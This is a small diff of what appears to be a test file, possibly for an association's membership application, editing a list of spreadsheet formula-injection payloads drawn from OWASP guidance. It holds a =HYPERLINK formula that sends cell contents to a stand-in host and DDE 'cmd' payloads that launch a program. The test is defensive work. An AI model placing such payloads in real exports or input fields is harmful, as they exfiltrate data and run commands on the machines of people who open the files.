@@ -94,7 +94,7 @@ def test_first_module_gives_the_main_organisme():
 
 # OWASP's dangerous first characters, each in a value an adhérent may type (a name, a first name, a title…).
 INJECTIONS = [
-    '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")',
+    '=HYPERLINK("http://x.example/?"&A1;"Ici")',  # fits the 50 characters of a name
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SOMME(1+1)*cmd|' /C calc'!A0",
